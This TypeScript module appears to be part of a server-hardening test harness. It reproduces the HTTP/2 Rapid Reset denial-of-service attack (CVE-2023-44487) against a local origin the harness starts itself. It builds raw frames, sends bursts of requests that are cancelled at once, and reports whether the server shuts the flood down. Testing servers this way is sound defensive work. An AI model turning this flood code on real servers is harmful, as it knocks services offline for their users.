import { connect } from 'node:tls';
import { type Attack, serviceFaults } from './attack.ts';

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const frameTypes = { headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7 };
const endOfStreamAndHeaders = 0x5;
const cancel = Buffer.from([0, 0, 0, 8]);

/** A frame (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const literal = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);

/** `GET /discovery` over https, without indexing (RFC 7541, sections 6.1 and 6.2.2). */
const requestHeaders = Buffer.concat([
  Buffer.from([0x82, 0x87, 0x04]),
  literal('/discovery'),
  Buffer.from([0x01]),
  literal('localhost'),
]);

const cancelledRequest = (stream: number) =>
  Buffer.concat([
    frame(frameTypes.headers, endOfStreamAndHeaders, stream, requestHeaders),
    frame(frameTypes.reset, 0, stream, cancel),
  ]);

/** Resets requests in bursts of a hundred until the origin ends the connection; returns how many it accepted. */
async function resetOnOneConnection(port: number, count: number): Promise<number> {
  const socket = connect({ port, host: '127.0.0.1', rejectUnauthorized: false, ALPNProtocols: ['h2'] });
  let isEnded = false;
  let goOn: () => void = () => undefined;
  socket.on('error', () => undefined);
  socket.on('data', (bytes) => {
    for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3)) {
      if (bytes[at + 3] === frameTypes.goaway) isEnded = true;
      if (bytes[at + 3] === frameTypes.ping) goOn();
    }
  });
  socket.once('close', () => {
    isEnded = true;
    goOn();
  });
  socket.write(Buffer.concat([preface, frame(frameTypes.settings, 0, 0)]));
  let sent = 0;
  while (sent < count && !isEnded) {
    const burst = Math.min(100, count - sent);
    const frames = Array.from({ length: burst }, (_, number) => cancelledRequest(2 * (sent + number) + 1));
    // The reply to a ping means that everything before it was read.
    const taken = new Promise<void>((settle) => {
      goOn = settle;
    });
    socket.write(Buffer.concat([...frames, frame(frameTypes.ping, 0, 0, Buffer.alloc(8))]));
    sent += burst;
    await taken;
  }
  socket.destroy();
  return sent;
}

/** HTTP/2 requests that are reset as soon as they are sent (CVE-2023-44487). */
export const resetStreams: Attack = {
  name: 'reset-streams',
  run: async ({ isShort, startOrigin, beside, tls }) => {
    const origin = await startOrigin(tls);
    const port = Number(new URL(origin.url).port);
    const count = isShort ? 900 : 3000;
    const sent: number[] = [];
    const service = await beside(origin, async () => {
      let left = count;
      while (left > 0) {
        const taken = await resetOnOneConnection(port, left);
        sent.push(taken);
        left -= taken;
      }
    });
    const faults = serviceFaults(service, isShort);
    if (sent.length === 1) faults.push(`One connection took ${count} resets.`);
    return {
      faults,
      figures: {
        healthMs: service.healthMs,
        resets: count,
        connections: sent.length,
        most: Math.max(...sent),
      },
    };
  },
};
